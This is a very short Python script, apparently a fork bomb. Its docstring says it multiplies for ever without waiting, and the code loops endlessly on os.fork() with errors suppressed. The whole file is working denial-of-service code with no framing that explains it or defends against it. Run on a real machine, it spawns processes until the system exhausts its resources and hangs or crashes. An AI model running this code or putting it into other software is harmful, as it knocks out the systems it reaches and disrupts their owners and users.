"""Multiplies for ever, each process twice, without ever waiting."""

import os
from contextlib import suppress

while True:
    with suppress(OSError):
        os.fork()
